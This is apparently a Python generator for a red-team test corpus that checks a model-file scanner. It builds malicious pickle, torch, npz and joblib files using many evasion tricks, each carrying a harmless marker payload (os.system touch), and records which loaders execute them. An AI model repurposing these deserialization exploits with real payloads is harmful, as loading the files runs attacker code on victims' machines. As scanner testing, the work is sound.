"""Hostile files of kinds the other corpora do not hold, each checked against the real loader.

Run in a producer venv with torch, numpy and joblib (never the tool's):
``/work/venvs/torch/bin/python tests/corpus/redteam4/make_redteam4.py``. Every payload either
runs ``touch rt4_marker`` (``os.system``) or calls ``rt4_payload.touch`` (a module standing for
any installed package's function: on no list, never vetted). Each loader runs in a child process
in a fresh temporary directory with this folder on ``PYTHONPATH``; ``redteam4.truth.json``
records per file and loader ``executed`` (the marker appeared), ``accepted`` or ``rejected``.

* ``legacy_*.pt``: torch's legacy stream (magic, protocol, sys_info, object, storage keys: five
  pickles, each read by ``pickle_module.load``) with the payload in each pickle, and its
  persistent id ``("module", obj, ...)`` returning ``obj`` for the object pickle to call;
* ``tar_*.pt``: torch's legacy tar format (``storages``, ``tensors``, ``pickle`` members; any
  tuple persistent id returns its first element);
* ``prepended_*.pt``: a pickle in front of a real ``torch.save`` zip (``torch.load`` checks only
  the first four bytes for a zip, so it unpickles the front);
* ``dupe_*.pt``: a ``torch.save`` zip with a second ``data.pkl`` member of the same name;
* ``case_*.pt``: its ``data.pkl`` spelled in another case (miniz finds it case-insensitively);
* ``frame_split.pkl``: a protocol 4 FRAME whose length ends inside an opcode;
* ``nostop_*``, ``badtail_*``, ``cut_*``: protocol-0 pickles without STOP (the data ends, or
  bytes that are no opcode follow) whose call runs before the loader fails;
* ``iter_*.pkl``: ``iter(callable, sentinel)`` handed to a vetted builtin that iterates it;
* ``keyed_*.pkl``: a class of the file handed to ``dict``/``OrderedDict``/``defaultdict``, which
  call its ``keys()``;
* ``state_*.pt``: the state ``torch._utils._set_obj_state`` applies with ``setattr`` (after
  ``_rebuild_parameter_with_state`` / ``_rebuild_from_type_v2``) setting ``__class__``;
* ``npz_*.npz``: object arrays in ``.npz`` members whose names do not end in ``.npy``;
* ``joblib_read_*.joblib``: a ``NumpyArrayWrapper`` whose BUILD state shadows its ``read``.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
OUT = HERE / "files"
MARKER = "rt4_marker"
SYSTEM = b"cos\nsystem\n(S'touch " + MARKER.encode() + b"'\ntR"  # os.system("touch rt4_marker")
TOUCH = b"crt4_payload\ntouch\n"  # the unvetted function, pushed (not called)
TORCH_MAGIC = 0x1950A86A20F9469CFC6C


def p2(obj: object) -> bytes:
    return pickle.dumps(obj, protocol=2)


def system_pickle() -> bytes:
    return SYSTEM + b"."


# -- torch legacy stream --------------------------------------------------------------------

def legacy(magic: bytes, proto: bytes, sys_info: bytes, obj: bytes, keys: bytes) -> bytes:
    return magic + proto + sys_info + obj + keys


def legacy_files() -> dict[str, bytes]:
    magic, proto = p2(TORCH_MAGIC), p2(1001)
    info = p2({"protocol_version": 1001, "little_endian": True,
               "type_sizes": {"short": 2, "int": 4, "long": 4}})
    obj, keys = p2({"a": 1}), p2([])
    pay = system_pickle()
    # ("module", rt4_payload.touch, None, None) as a persistent id, then called on ()
    module_pid = b"(Vmodule\n" + TOUCH + b"NNtQ)R."
    module_pid_bytes = b"(C\x06module" + TOUCH + b"NNtQ)R."  # typename as bytes
    module_pid_short = b"(Vmodule\n" + TOUCH + b"\x85Q)R."  # (typename, obj): data[1:] empty
    module_pid_str = b"(Vmodule\n" + TOUCH + b"V\nV\ntQ)R."  # empty strings: falsy, unchecked
    return {
        "legacy_magic_payload.pt": legacy(pay, proto, info, obj, keys),
        "legacy_protocol_payload.pt": legacy(magic, pay, info, obj, keys),
        "legacy_sys_info_payload.pt": legacy(magic, proto, pay, obj, keys),
        "legacy_storage_keys_payload.pt": legacy(magic, proto, info, obj, pay),
        "legacy_module_pid.pt": legacy(magic, proto, info, b"\x80\x02" + module_pid, keys),
        "legacy_module_pid_bytes.pt": legacy(magic, proto, info, b"\x80\x03" + module_pid_bytes,
                                             keys),
        "legacy_module_pid_short.pt": legacy(magic, proto, info, b"\x80\x02" + module_pid_short,
                                             keys),
        "legacy_module_pid_empty.pt": legacy(magic, proto, info, b"\x80\x02" + module_pid_str,
                                             keys),
    }


# -- torch legacy tar -----------------------------------------------------------------------

def tar_file(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def tar_files() -> dict[str, bytes]:
    empty = p2(0) + p2([])  # no storages, then no views
    tensors = p2(0)
    # a tuple persistent id (touch, None): its first element, then called on ()
    any_pid = b"\x80\x02" + TOUCH + b"N\x86Q)R."
    src_pid = b"\x80\x02" + TOUCH + b"X\x01\x00\x00\x00fX\x03\x00\x00\x00src\x87Q)R."
    return {
        "tar_pickle_payload.pt": tar_file({"storages": empty, "tensors": tensors,
                                           "pickle": system_pickle()}),
        "tar_storages_payload.pt": tar_file({"storages": system_pickle(), "tensors": tensors,
                                             "pickle": p2({"a": 1})}),
        "tar_tensors_payload.pt": tar_file({"storages": empty, "tensors": system_pickle(),
                                            "pickle": p2({"a": 1})}),
        "tar_any_pid.pt": tar_file({"storages": empty, "tensors": tensors, "pickle": any_pid}),
        "tar_source_pid.pt": tar_file({"storages": empty, "tensors": tensors, "pickle": src_pid}),
    }


# -- torch zip tricks -----------------------------------------------------------------------

def torch_zip() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    return buf.getvalue()


def replace_data_pkl(zdata: bytes, new_pkl: bytes, keep_first: bool) -> bytes:
    """The torch zip with a second member named like its data.pkl holding ``new_pkl`` (after
    the original, or before it when ``keep_first`` is False)."""
    src = zipfile.ZipFile(io.BytesIO(zdata))
    names = src.namelist()
    data_pkl = next(n for n in names if n.endswith("/data.pkl"))
    out = io.BytesIO()
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
            for n in names:
                if n == data_pkl and not keep_first:
                    dst.writestr(n, new_pkl)
                dst.writestr(src.getinfo(n), src.read(n))
                if n == data_pkl and keep_first:
                    dst.writestr(n, new_pkl)
    return out.getvalue()


def renamed_data_pkl(zdata: bytes, new_pkl: bytes, name: str) -> bytes:
    """The torch zip with its data.pkl replaced by ``new_pkl`` under another spelling."""
    src = zipfile.ZipFile(io.BytesIO(zdata))
    members = {n: src.read(n) for n in src.namelist()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for n, data in members.items():
            if n.endswith("/data.pkl"):
                dst.writestr(n[: -len("data.pkl")] + name, new_pkl)
            else:
                dst.writestr(n, data)
    return out.getvalue()


def zip_files() -> dict[str, bytes]:
    z = torch_zip()
    return {
        # torch's zip reader (miniz) looks records up without regard to case
        "case_upper_data_pkl.pt": renamed_data_pkl(z, system_pickle(), "DATA.PKL"),
        "case_mixed_data_pkl.pt": renamed_data_pkl(z, system_pickle(), "Data.pkl"),
        # a protocol 4 FRAME that ends inside the GLOBAL opcode (the C unpickler reads on)
        "frame_split.pkl": b"\x80\x04\x95\x03" + b"\x00" * 7 + SYSTEM + b".",
        "prepended_system.pt": system_pickle() + z,
        "prepended_padded.pt": b"\x80\x02" + SYSTEM + b"0" + b"N." + z,  # result dropped
        "dupe_last_payload.pt": replace_data_pkl(z, system_pickle(), keep_first=True),
        "dupe_first_payload.pt": replace_data_pkl(z, system_pickle(), keep_first=False),
    }


# -- pickles a loader runs although they never reach STOP ---------------------------------------

def unfinished_files() -> dict[str, bytes]:
    """``pickle.load`` runs each opcode as it reads it: a call before the end of the data (or
    before bytes that are no opcode) has run when the loader fails."""
    touch_call = b"crt4_payload\ntouch\n(tR"
    out = {}
    for ext in ("pkl", "pt", "joblib", "bin"):
        out[f"nostop_system.{ext}"] = SYSTEM
        out[f"badtail_system.{ext}"] = SYSTEM + b"\xff\xfe not an opcode"
    out["nostop_touch.pkl"] = touch_call
    out["nostop_touch_text_tail.pkl"] = touch_call + b"0\nthe rest is prose\n"
    out["cut_mid_opcode.pkl"] = touch_call + b"S'unterminated"
    return out


# -- torch's own state setters given a special name -------------------------------------------

class _Reduced:
    """Pickled as whatever ``__reduce_ex__`` says (built in the producer, by torch.save)."""

    def __init__(self, reduced: tuple) -> None:
        self.reduced = reduced

    def __reduce_ex__(self, protocol: int) -> tuple:
        return self.reduced


def state_files() -> dict[str, bytes]:
    """torch._utils._set_obj_state does ``setattr(obj, key, value)`` for every key of the state
    that ``_rebuild_parameter_with_state`` and ``_rebuild_from_type_v2`` pass it: a
    ``__class__`` key turns the vetted parameter into the file's class."""
    import collections

    import torch
    import torch._tensor
    import torch._utils
    from rt4_torch_payload import Tracked

    t = torch.zeros(2)
    with_state = _Reduced((torch._utils._rebuild_parameter_with_state,
                           (t, False, collections.OrderedDict(), {"__class__": Tracked})))
    slots = _Reduced((torch._utils._rebuild_parameter_with_state,
                      (t, False, collections.OrderedDict(), (None, {"__class__": Tracked}))))
    from_type = _Reduced((torch._tensor._rebuild_from_type_v2,
                          (torch.nn.Parameter, torch.nn.Parameter, (t,),
                           {"__class__": Tracked})))
    out = {}
    for name, obj in (("state_param_class", with_state), ("state_param_slots_class", slots),
                      ("state_from_type_class", from_type)):
        for proto in (2, 4):
            buf = io.BytesIO()
            torch.save({"w": obj}, buf, pickle_protocol=proto)
            out[f"{name}_p{proto}.pt"] = buf.getvalue()
    return out


# -- iteration calling a callable -----------------------------------------------------------

ITER = b"cbuiltins\niter\n(" + TOUCH + b"I0\ntR"  # iter(touch, 0): calls touch once (it returns 0)


def iter_files() -> dict[str, bytes]:
    out = {}
    for consumer in ("list", "tuple", "set", "frozenset", "sorted", "min", "sum", "any",
                     "all", "bytearray", "bytes"):
        out[f"iter_{consumer}.pkl"] = b"cbuiltins\n" + consumer.encode() + b"\n(" + ITER + b"tR."
    out["iter_ordereddict.pkl"] = b"ccollections\nOrderedDict\n(" + ITER + b"tR."
    out["iter_counter.pkl"] = b"ccollections\nCounter\n(" + ITER + b"tR."
    out["iter_dict.pkl"] = b"cbuiltins\ndict\n(" + ITER + b"tR."
    # protocol 4: names built by STACK_GLOBAL from memoized strings
    out["iter_stack_global.pkl"] = (
        b"\x80\x04\x8c\x08builtins\x94\x8c\x04list\x94\x93\x94"
        b"h\x00\x8c\x04iter\x94\x93\x94\x8c\x0brt4_payload\x94\x8c\x05touch\x94\x93\x94"
        b"K\x00\x86\x94R\x94\x85\x94R\x94."
    )
    # a class of the file given to a constructor that reads a mapping: dict(x) calls x.keys()
    keyed = b"crt4_payload\nKeyed\n"
    out["keyed_dict.pkl"] = b"cbuiltins\ndict\n(" + keyed + b"tR."
    out["keyed_ordereddict.pkl"] = b"ccollections\nOrderedDict\n(" + keyed + b"tR."
    out["keyed_defaultdict.pkl"] = b"ccollections\ndefaultdict\n(N" + keyed + b"tR."
    out["keyed_dict_p2.pkl"] = b"\x80\x02c__builtin__\ndict\n" + keyed + b"\x85R."
    return out


# -- numpy and joblib -----------------------------------------------------------------------

def npy_object() -> bytes:

    header = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    h = repr(header).encode()
    h += b" " * ((64 - (10 + len(h) + 1) % 64) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + system_pickle()


def npz_files() -> dict[str, bytes]:
    def npz(name: str, method: int = zipfile.ZIP_STORED) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", method) as z:
            z.writestr(name, npy_object())
        return buf.getvalue()

    return {
        "npz_no_suffix.npz": npz("weights"),
        "npz_upper_suffix.npz": npz("weights.NPY"),
        "npz_other_suffix.npz": npz("weights.bin"),
        "npz_dir_member.npz": npz("sub/weights"),
        "npz_deflated_no_suffix.npz": npz("weights", zipfile.ZIP_DEFLATED),
    }


def joblib_files() -> dict[str, bytes]:
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump({"a": np.arange(3)}, buf)
    data = buf.getvalue()
    # The wrapper's BUILD state is a dict; add "read": rt4_payload.touch before its BUILD
    anchor = b"\x8c\nallow_mmap\x94\x88"
    if anchor not in data or not data.startswith(b"\x80\x04\x95"):
        raise SystemExit("joblib layout changed: " + repr(data[:300]))
    extra = b"\x8c\x04read" + TOUCH
    frame = struct.unpack("<Q", data[3:11])[0] + len(extra)
    patched = data[:3] + struct.pack("<Q", frame) + data[11:].replace(anchor, anchor + extra, 1)
    return {"joblib_read_shadow.joblib": patched}


# -- loaders --------------------------------------------------------------------------------

LOADERS = {
    "pickle.loads": "import pickle,sys; pickle.loads(open(sys.argv[1],'rb').read())",
    "torch.load": "import torch,sys; torch.load(sys.argv[1], weights_only=False)",
    "numpy.load": "import numpy,sys\nz=numpy.load(sys.argv[1], allow_pickle=True)\n"
                  "[z[k] for k in z.files] if hasattr(z,'files') else None",
    "joblib.load": "import joblib,sys; joblib.load(sys.argv[1])",
}


def loaders_for(name: str) -> list[str]:
    if name.endswith(".bin"):
        return ["pickle.loads", "torch.load"]
    if name.endswith(".pt"):
        return ["torch.load"]
    if name.endswith(".npz"):
        return ["numpy.load"]
    if name.endswith(".joblib"):
        return ["joblib.load"]
    return ["pickle.loads", "torch.load", "joblib.load"]


def run(loader: str, path: Path) -> str:
    with tempfile.TemporaryDirectory() as tmp:
        env = dict(os.environ, PYTHONPATH=str(HERE))
        try:
            p = subprocess.run([sys.executable, "-c", LOADERS[loader], str(path.resolve())],
                               cwd=tmp, env=env, capture_output=True, timeout=120)
        except subprocess.TimeoutExpired:
            p = None
        if (Path(tmp) / MARKER).exists():
            return "executed"
        return "accepted" if p is not None and p.returncode == 0 else "rejected"


def main() -> None:
    sys.path.insert(0, str(HERE))
    OUT.mkdir(exist_ok=True)
    files: dict[str, bytes] = {}
    for make in (legacy_files, tar_files, zip_files, unfinished_files, state_files,
                 iter_files, npz_files, joblib_files):
        files.update(make())
    truth: dict[str, dict[str, str]] = {}
    for name, data in sorted(files.items()):
        path = OUT / name
        path.write_bytes(data)
        truth[name] = {ld: run(ld, path) for ld in loaders_for(name)}
        print(name, truth[name])
    import joblib
    import numpy
    import torch

    (HERE / "redteam4.truth.json").write_text(json.dumps({
        "producer": {"python": sys.version.split()[0], "torch": torch.__version__,
                     "numpy": numpy.__version__, "joblib": joblib.__version__},
        "files": truth}, indent=1, sort_keys=True) + "\n")


if __name__ == "__main__":
    main()
